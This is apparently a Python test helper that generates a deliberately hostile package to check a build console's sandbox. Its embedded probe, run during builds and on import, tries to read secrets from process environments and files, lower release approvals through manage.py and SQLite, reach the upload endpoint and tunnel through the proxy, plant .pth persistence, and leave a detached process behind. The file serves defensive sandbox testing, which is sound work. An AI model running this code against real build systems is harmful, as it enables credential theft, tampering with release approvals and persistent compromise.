"""A hostile package, for the sandbox's attack tests.

Its code runs at every place where a package's code runs in the console:

* an in-tree build back-end (``backend-path``), run by the build for the
  sdist and again for the wheel;
* its module, imported by the verify;
* a dependency on the same index, only an sdist with an in-tree back-end of
  its own, built during the verify's install (uv keeps a dependency's build
  output to itself, so that report travels in the wheel it builds and is
  printed when the dependency is imported).

At each place ``probe.report`` tries what such code tried on an unsandboxed
worker (issue "Package code runs in a sandbox that holds nothing worth
stealing"): the worker's environment through /proc, every process's
environment (a concurrent twine's TWINE_PASSWORD), the var folder's secrets
and SQLite file, ``manage.py shell``, the database, the broker, the index's
upload endpoint and loopback services, directly and through the sandbox's
proxy, a ``.pth`` in another project's cached build environment and in the
shared tool cache, the operating system and the console's own environment,
and a process left behind. It prints one ``PROBE {json}`` line: each
attempt's outcome, ``REACHED ...`` or ``blocked ...``.
"""

from __future__ import annotations

import base64
import hashlib
import io
import json
import re
import tarfile
import textwrap
from dataclasses import dataclass
from pathlib import Path
from typing import Any

from tests.support.sample import git

PROBE = """\
import json, os, socket, sqlite3, subprocess, sys, urllib.error, urllib.request, http.client

TARGETS = json.loads({targets!r})


def _read(path):
    with open(path, "rb") as handle:
        return handle.read(1 << 16).decode(errors="replace")


def _secrets_in(text):
    return sorted(name for name in TARGETS["secret_names"] if name + "=" in text)


def _with_secrets(text):
    found = _secrets_in(text.replace("\\0", "\\n"))
    if not found:
        raise LookupError("no secret in it")
    return found


def report(where):
    seen = {{"where": where, "uid": os.getuid(), "pid": os.getpid()}}

    def attempt(name, action):
        try:
            seen[name] = "REACHED " + repr(action())[:200]
        except BaseException as exc:  # every failure is the sandbox's answer
            seen[name] = ("blocked " + type(exc).__name__ + ": " + str(exc))[:200]

    # Other processes, and their environments: the worker's, a twine's.
    pids = [p for p in os.listdir("/proc") if p.isdigit()]
    seen["processes visible"] = len(pids)
    found = set(_secrets_in("\\n".join(f"{{k}}={{v}}" for k, v in os.environ.items())))
    for pid in pids:
        try:
            found.update(_secrets_in(_read(f"/proc/{{pid}}/environ").replace("\\0", "\\n")))
        except OSError:
            pass
    seen["secrets in any environment"] = ("REACHED " + ", ".join(sorted(found))) if found else "blocked: none"
    for n, pid in enumerate(TARGETS["worker_pids"]):
        attempt(f"worker environ {{n}}", lambda pid=pid: _with_secrets(_read(f"/proc/{{pid}}/environ")))
    seen["environment names"] = sorted(os.environ)
    # The console's files.
    for label, path in TARGETS["files"].items():
        attempt("read " + label, lambda path=path: _read(path))
    # A folder may show the mount points of the sandbox's own paths in it, nothing else.
    for label, path in TARGETS["folders"].items():
        try:
            seen["list " + label] = "sees " + json.dumps(sorted(os.listdir(path)))
        except OSError as exc:
            seen["list " + label] = ("blocked " + type(exc).__name__ + ": " + str(exc))[:200]
    attempt(
        "manage.py shell",
        lambda: subprocess.run(
            [sys.executable, TARGETS["manage"], "shell", "-c",
             "from releases.models import Environment; Environment.objects.update(required_approvals=0)"],
            capture_output=True, timeout=30, check=True,
        ).stdout,
    )
    attempt(
        "sqlite: lower the approvals",
        lambda: sqlite3.connect(f"file:{{TARGETS['sqlite']}}?mode=rw", uri=True).execute(
            "UPDATE releases_environment SET required_approvals = 0"
        ).rowcount,
    )
    # Services, straight.
    for label, port in TARGETS["ports"].items():
        attempt(f"connect {{label}} (127.0.0.1:{{port}})", lambda port=port: socket.create_connection(("127.0.0.1", port), 3).close())
    attempt("connect pypi.org:443", lambda: socket.create_connection(("pypi.org", 443), 3).close())
    direct = urllib.request.build_opener(urllib.request.ProxyHandler({{}}))
    upload = lambda opener: opener.open(urllib.request.Request(TARGETS["upload_url"], data=b":action=file_upload", method="POST"), timeout=10).status
    attempt("upload to the index", lambda: upload(direct))
    # Through the sandbox's proxy, when it has one.
    proxy = os.environ.get("HTTP_PROXY", "")
    if proxy:
        attempt("upload through the proxy", lambda: upload(urllib.request.build_opener()))
        attempt("index API through the proxy", lambda: urllib.request.urlopen(TARGETS["index_api"], timeout=10).status)
        host, port = proxy.removeprefix("http://").rsplit(":", 1)
        for label, target in TARGETS["tunnels"].items():
            def tunnel(target=target):
                connection = http.client.HTTPConnection(host, int(port), timeout=10)
                tunnel_host, tunnel_port = target.rsplit(":", 1)
                connection.set_tunnel(tunnel_host, int(tunnel_port))
                connection.connect()
                return "tunnel open"
            attempt("tunnel to " + label, tunnel)
    # Persistence: another project's build environment, the shared cache, the system.
    for label, path in TARGETS["writes"].items():
        attempt("write " + label, lambda path=path: open(path, "w").write("import os\\n"))
    # A process left behind, detached, to outlive the job.
    subprocess.Popen(
        ["sleep", TARGETS["marker"]], start_new_session=True,
        stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL,
    )
    print("PROBE " + json.dumps(seen), flush=True)
    return seen
"""

BACKEND = """\
import base64, hashlib, io, os, tarfile, zipfile

import _console_probe

NAME, MODULE, VERSION, REQUIRES = {name!r}, {module!r}, {version!r}, {requires!r}
SOURCE = ["pyproject.toml", {backend_file!r}, "_console_probe.py", *{module_files!r}]


def _metadata():
    lines = ["Metadata-Version: 2.1", f"Name: {{NAME}}", f"Version: {{VERSION}}"]
    lines += [f"Requires-Dist: {{r}}" for r in REQUIRES]
    return ("\\n".join(lines) + "\\nDescription-Content-Type: text/plain\\n\\nA package.\\n").encode()


def get_requires_for_build_sdist(config_settings=None):
    return []


def get_requires_for_build_wheel(config_settings=None):
    return []


def build_sdist(sdist_directory, config_settings=None):
    _console_probe.report("{where}-sdist")
    base = f"{{MODULE}}-{{VERSION}}"
    with tarfile.open(os.path.join(sdist_directory, base + ".tar.gz"), "w:gz") as tar:
        for name in SOURCE:
            tar.add(name, arcname=f"{{base}}/{{name}}")
        info = tarfile.TarInfo(f"{{base}}/PKG-INFO")
        data = _metadata()
        info.size = len(data)
        tar.addfile(info, io.BytesIO(data))
    return base + ".tar.gz"


def build_wheel(wheel_directory, config_settings=None, metadata_directory=None):
    seen = _console_probe.report("{where}-wheel")
    info = f"{{MODULE}}-{{VERSION}}.dist-info"
    files = {{name: open(name, "rb").read() for name in SOURCE if name.startswith(MODULE + "/")}}
    files[f"{{MODULE}}/_built.json"] = __import__("json").dumps(seen).encode()
    files[f"{{info}}/METADATA"] = _metadata()
    files[f"{{info}}/WHEEL"] = b"Wheel-Version: 1.0\\nGenerator: hostile\\nRoot-Is-Purelib: true\\nTag: py3-none-any\\n"
    record = ""
    for name, data in files.items():
        digest = base64.urlsafe_b64encode(hashlib.sha256(data).digest()).rstrip(b"=").decode()
        record += f"{{name}},sha256={{digest}},{{len(data)}}\\n"
    filename = f"{{MODULE}}-{{VERSION}}-py3-none-any.whl"
    with zipfile.ZipFile(os.path.join(wheel_directory, filename), "w") as archive:
        for name, data in files.items():
            archive.writestr(name, data)
        archive.writestr(f"{{info}}/RECORD", record + f"{{info}}/RECORD,,\\n")
    return filename
"""

PYPROJECT = """\
[build-system]
requires = []
build-backend = "{backend}"
backend-path = ["."]

[project]
name = "{name}"
version = "{version}"
description = "A package."
dependencies = {requires}
"""


@dataclass(frozen=True)
class HostilePackage:
    name: str
    module: str
    dependency: str
    dependency_module: str
    marker: str


def _module_init(*, where: str, dependency_module: str | None) -> str:
    """The package's module: on import, it reports, prints what its build
    saw, and imports its dependency (which does the same)."""
    text = textwrap.dedent(
        f"""\
        import json, os
        from . import _probe
        _built = os.path.join(os.path.dirname(__file__), "_built.json")
        if os.path.exists(_built):
            print("PROBE " + open(_built).read(), flush=True)
        _probe.report({where!r})
        """
    )
    if dependency_module:
        text += f"import {dependency_module}\n"
    return text


def _files(
    name: str, module: str, version: str, requires: list[str], where: str, targets: dict[str, Any], dep: str | None
) -> dict[str, str]:
    backend = f"{module}_backend"
    probe = PROBE.format(targets=json.dumps(targets))
    module_files = [f"{module}/__init__.py", f"{module}/_probe.py"]
    return {
        "pyproject.toml": PYPROJECT.format(backend=backend, name=name, version=version, requires=json.dumps(requires)),
        f"{backend}.py": BACKEND.format(
            name=name,
            module=module,
            version=version,
            requires=requires,
            backend_file=f"{backend}.py",
            module_files=module_files,
            where=where,
        ),
        "_console_probe.py": probe,
        f"{module}/__init__.py": _module_init(where=where.replace("backend", "import"), dependency_module=dep),
        f"{module}/_probe.py": probe,
    }


def write_hostile_project(path: Path, package: HostilePackage, version: str, targets: dict[str, Any]) -> None:
    """The hostile project's git repository, with ``version`` tagged ``v{version}``."""
    path.mkdir(parents=True, exist_ok=True)
    git(path, "init", "--quiet", "--initial-branch=main")
    files = _files(
        package.name,
        package.module,
        version,
        [package.dependency],
        "backend",
        targets,
        package.dependency_module,
    )
    for relative, text in files.items():
        (path / relative).parent.mkdir(parents=True, exist_ok=True)
        (path / relative).write_text(text)
    git(path, "add", "-A")
    git(path, "commit", "--quiet", "-m", f"version {version}")
    git(path, "tag", f"v{version}")


def hostile_dependency_sdist(out: Path, package: HostilePackage, targets: dict[str, Any]) -> Path:
    """The dependency, as an sdist only (so that installing it builds it)."""
    files = _files(package.dependency, package.dependency_module, "1.0", [], "dependency-backend", targets, None)
    base = f"{package.dependency_module}-1.0"
    sdist = out / f"{base}.tar.gz"
    out.mkdir(parents=True, exist_ok=True)
    with tarfile.open(sdist, "w:gz") as tar:
        for relative, text in {
            **files,
            "PKG-INFO": f"Metadata-Version: 2.1\nName: {package.dependency}\nVersion: 1.0\n",
        }.items():
            data = text.encode()
            info = tarfile.TarInfo(f"{base}/{relative}")
            info.size = len(data)
            tar.addfile(info, io.BytesIO(data))
    return sdist


def probe_reports(lines: list[str]) -> dict[str, dict[str, Any]]:
    """The hostile code's reports in a job log, by where they were made."""
    reports = {}
    for line in lines:
        # The log may start the line with the command's prefix ("[wheel] ").
        _, found, report = line.partition("PROBE {")
        if found:
            seen = json.loads("{" + report)
            reports[seen["where"]] = seen
    return reports


def reached(report: dict[str, Any]) -> dict[str, str]:
    """The attempts of one report that were not blocked."""
    return {key: value for key, value in report.items() if isinstance(value, str) and value.startswith("REACHED")}


def encodings(secret: str) -> list[str]:
    """A secret as it would leak: as it is, hex, base64 (both alphabets)."""
    raw = secret.encode()
    return [secret, raw.hex(), base64.b64encode(raw).decode(), base64.urlsafe_b64encode(raw).decode()]


def digest_tree(folder: Path) -> str:
    """One sha256 over every path and file's bytes under ``folder`` (a change anywhere changes it)."""
    digest = hashlib.sha256()
    for path in sorted(folder.rglob("*")):
        digest.update(str(path.relative_to(folder)).encode() + b"\0")
        if path.is_file() and not path.is_symlink():
            digest.update(path.read_bytes())
    return digest.hexdigest()


_NAME = re.compile(r"[^a-z0-9]+")


def hostile_package(suffix: str) -> HostilePackage:
    module = "hostile_" + _NAME.sub("_", suffix.lower())
    return HostilePackage(
        name=module.replace("_", "-"),
        module=module,
        dependency=module.replace("_", "-") + "-helper",
        dependency_module=module + "_helper",
        marker=f"{int(hashlib.sha256(suffix.encode()).hexdigest()[:6], 16) % 100000 + 7000}.123",
    )
